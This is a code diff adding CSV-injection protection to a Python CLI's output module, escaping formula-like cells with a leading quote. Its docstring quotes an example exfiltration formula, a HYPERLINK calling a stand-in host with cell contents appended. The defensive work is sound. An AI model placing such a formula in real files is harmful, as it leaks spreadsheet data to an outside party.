@@ -1,15 +1,63 @@
-"""Plain, scriptable output for every CLI command that lists or shows things."""
+"""Plain, scriptable output for every CLI command that lists or shows things, and the one rule every
+CSV writer of Recoup applies to its cells (`safe_cell`, `csv_writer`).
+
+A spreadsheet runs a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return as a
+formula (CSV injection: `=HYPERLINK("http://evil.example/?"&A1,"click")` in an order number sends the
+sheet's cells away when clicked). OWASP's rule: such a cell is written with a single quote in front,
+which the spreadsheet shows as text. A plain number (`-12.00`, `+3`) cannot be a formula and is
+written as it is, so amount columns never change. JSON output keeps every value exactly.
+"""
 
 from __future__ import annotations
 
 import csv
 import json
+import re
 import sys
-from collections.abc import Sequence
+from collections.abc import Iterable, Sequence
 from enum import StrEnum
+from typing import Any, TextIO
 
 from rich.console import Console
 from rich.table import Table
+
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")
+
+
+def safe_cell(value: object) -> object:
+    """The value as a CSV cell a spreadsheet shows as text: a formula-like text gets a leading `'`."""
+    if isinstance(value, str) and value.startswith(FORMULA_START) and not _PLAIN_NUMBER.fullmatch(value):
+        return "'" + value
+    return value
+
+
+def safe_row(values: Iterable[object]) -> list[object]:
+    return [safe_cell(value) for value in values]
+
+
+class SafeWriter:
+    """`csv.writer` whose rows go through `safe_cell`: the writer every CSV export uses."""
+
+    def __init__(self, out: TextIO, **options: Any) -> None:
+        self._writer = csv.writer(out, lineterminator="\n", **options)
+
+    def writerow(self, row: Iterable[object]) -> Any:
+        return self._writer.writerow(safe_row(row))
+
+    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
+        for row in rows:
+            self.writerow(row)
+
+
+def csv_writer(out: TextIO, **options: Any) -> SafeWriter:
+    return SafeWriter(out, **options)
+
+
+def csv_dict_rows(rows: Iterable[dict[str, object]], columns: Sequence[str]) -> Iterable[list[object]]:
+    """Rows as lists in `columns` order (a missing or None value is empty), for `csv_writer`."""
+    for row in rows:
+        yield ["" if row.get(column) is None else row.get(column) for column in columns]
 
 
 class Format(StrEnum):
@@ -24,10 +72,9 @@ def emit(rows: Sequence[dict[str, object]], fmt: Format, *, columns: Sequence[st
     if fmt is Format.json:
         sys.stdout.write(json.dumps(list(rows), ensure_ascii=False, indent=1, default=str) + "\n")
     elif fmt is Format.csv:
-        writer = csv.DictWriter(sys.stdout, fieldnames=cols, extrasaction="ignore", lineterminator="\n")
-        writer.writeheader()
-        for row in rows:
-            writer.writerow({k: "" if row.get(k) is None else row.get(k) for k in cols})
+        writer = csv_writer(sys.stdout)
+        writer.writerow(cols)
+        writer.writerows(csv_dict_rows(rows, cols))
     else:
         table = Table(title=title, show_lines=False)
         for col in cols:
